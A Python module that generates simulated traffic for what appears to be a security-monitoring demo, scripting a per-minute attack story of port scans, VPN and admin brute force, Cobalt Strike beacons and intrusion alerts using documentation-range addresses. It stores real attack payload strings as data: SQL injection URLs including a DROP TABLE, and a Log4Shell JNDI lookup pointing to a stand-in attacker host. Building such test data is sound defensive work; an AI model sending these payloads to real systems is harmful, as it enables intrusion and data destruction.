"""What happens in the demo: the day's quiet traffic, and an attack story that begins anew every minute.

All addresses outside the agencies are documentation ranges (RFC 5737). A story's scenes are at fixed seconds of its minute, so the first
of them begins within seconds of the start; who is attacked, and by whom, changes from minute to minute by the seed.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from random import Random

from ingest.sources.demo_formats import Attack, Flow, Login

Happening = Flow | Attack | Login
STORY_SECONDS = 60.0

_SERVICES = (
    ("https", "tcp", 443),
    ("https", "tcp", 443),
    ("https", "tcp", 443),
    ("dns", "udp", 53),
    ("http", "tcp", 80),
    ("ntp", "udp", 123),
)
_SCANNED = (21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 389, 443, 445, 465, 587, 636, 993, 995, 1080, 1433, 1521, 1723, 2049, 2375)
_MORE_SCANNED = (
    3128,
    3306,
    3389,
    4444,
    5000,
    5432,
    5601,
    5900,
    5985,
    6379,
    6443,
    7001,
    8000,
    8080,
    8081,
    8443,
    8888,
    9000,
    9200,
    11211,
    27017,
)
_ACCOUNTS = ("admin", "administrator", "root", "vpnuser", "test", "guest", "backup", "kimcs", "leejh", "parksy")
_INJECTIONS = (
    "/board/view.do?id=1%27%20OR%20%271%27=%271",
    "/board/view.do?id=1%20UNION%20SELECT%20NULL,user(),version()--",
    "/search.do?q=%27;%20DROP%20TABLE%20member;--",
    "/board/list.do?page=1%20AND%20SLEEP(5)",
)
_JNDI = "${jndi:ldap://203.0.113.66:1389/Exploit}"
_ATTACKERS = ("203.0.113.45", "203.0.113.77", "198.51.100.23", "192.0.2.191")
_COMMAND_SERVER = "198.51.100.66"
_NEIGHBOURHOODS = 5
"""Whom one stranger of the noise knocks at: who knocked at every agency would be an incident, and the queue would be full of them."""


@dataclass(frozen=True, slots=True)
class Site:
    """An agency's network as the story needs it: /16 of its offices, the address of its public web server, that server's name."""

    office: str  # the first two octets, "10.11"
    web: str
    host: str


def visit(random: Random, site: Site) -> Flow:
    """Somebody looks at the agency's web site."""
    visitor, sport = f"198.51.100.{random.randrange(100, 250)}", random.randrange(32768, 61000)
    return Flow(visitor, sport, site.web, 443, "tcp", "https", True, False, random.randrange(400, 4000), random.randrange(2000, 90000), 2)


def quiet(random: Random, site: Site) -> Flow:
    """One everyday connection."""
    service, proto, port = random.choice(_SERVICES)
    sport = random.randrange(32768, 61000)
    inside = f"{site.office}.{random.randrange(1, 9)}.{random.randrange(10, 250)}"
    if random.random() < 0.03:  # the noise of the internet at the door
        stranger = 1 + random.randrange(35) * _NEIGHBOURHOODS + int(site.web.rpartition(".")[2]) % _NEIGHBOURHOODS
        return Flow(f"192.0.2.{stranger}", sport, site.web, random.choice((23, 445, 5060)), "tcp", "other", False, False, 60)
    if random.random() < 0.12:
        return visit(random, site)
    outside = f"203.0.113.{random.randrange(100, 250)}"
    return Flow(
        inside,
        sport,
        outside,
        port,
        proto,
        service,
        True,
        True,
        random.randrange(80, 9000),
        random.randrange(120, 250_000),
        random.randrange(1, 90),
    )


def _port_scan(random: Random, site: Site, attacker: str) -> Iterator[tuple[float, Happening]]:
    for step, port in enumerate((*_SCANNED, *_MORE_SCANNED)):
        yield 2 + step * 0.08, Flow(attacker, random.randrange(40000, 60000), site.web, port, "tcp", f"tcp/{port}", False, False, 60)


def _vpn_brute_force(random: Random, site: Site, attacker: str) -> Iterator[tuple[float, Happening]]:  # noqa: ARG001 - a scene
    for step in range(40):
        yield 14 + step * 0.25, Login(attacker, random.choice(_ACCOUNTS), accepted=False, vpn=True)
    yield 25, Login(attacker, "kimcs", accepted=True, vpn=True)


def _admin_brute_force(random: Random, site: Site, attacker: str) -> Iterator[tuple[float, Happening]]:  # noqa: ARG001 - a scene
    for step in range(24):
        yield 27 + step * 0.2, Login(attacker, random.choice(_ACCOUNTS[:3]), accepted=False, vpn=False)


def _sql_injection(random: Random, site: Site, attacker: str) -> Iterator[tuple[float, Happening]]:
    for step, url in enumerate(_INJECTIONS):
        port = random.randrange(40000, 60000)
        yield (
            6 + step * 0.5,
            Attack(
                attacker,
                port,
                site.web,
                80,
                2006446,
                "SQL Injection Attempt UNION SELECT",
                2,
                True,
                host=site.host,
                url=url,
                agent="sqlmap/1.8",
            ),
        )


def _log4shell(random: Random, site: Site, attacker: str) -> Iterator[tuple[float, Happening]]:
    for step in range(3):
        port = random.randrange(40000, 60000)
        name = "Apache.Log4j.Error.Log.Remote.Code.Execution"
        yield (
            9 + step * 0.7,
            Attack(attacker, port, site.web, 8080, 51006, name, 1, step < 2, host=site.host, url=f"/login.do?u={_JNDI}", agent=_JNDI),
        )


def _beacon(random: Random, site: Site, attacker: str) -> Iterator[tuple[float, Happening]]:  # noqa: ARG001 - a scene
    infected = f"{site.office}.3.77"
    for step in range(9):
        port = random.randrange(49152, 61000)
        yield 36 + step * 2.0, Flow(infected, port, _COMMAND_SERVER, 4444, "tcp", "tcp/4444", True, True, 412, 188, 1)


def _check_in(random: Random, site: Site, attacker: str) -> Iterator[tuple[float, Happening]]:  # noqa: ARG001 - a scene
    signature, name = 2032746, "ET MALWARE Cobalt Strike Beacon Checkin"
    port = random.randrange(49152, 61000)
    infected = f"{site.office}.3.77"
    yield 55, Attack(infected, port, _COMMAND_SERVER, 8080, signature, name, 1, False, True, _COMMAND_SERVER, "/submit.php?id=7741", "POST")


Scene = Callable[[Random, Site, str], Iterator[tuple[float, Happening]]]
SCENES: tuple[tuple[Scene, tuple[str, ...]], ...] = (
    (_port_scan, ("fortigate", "asa", "bluemax", "paloalto")),
    (_sql_injection, ("webguard", "suricata")),
    (_log4shell, ("fortigate", "paloalto", "suricata")),
    (_vpn_brute_force, ("fortigate", "asa")),
    (_admin_brute_force, ("fortigate",)),
    (_beacon, ("fortigate", "paloalto", "bluemax", "asa")),
    (_check_in, ("suricata",)),
)
"""Each scene, and the kinds of device that can see it."""


def attacker(random: Random) -> str:
    """Who attacks this time."""
    return random.choice(_ATTACKERS)
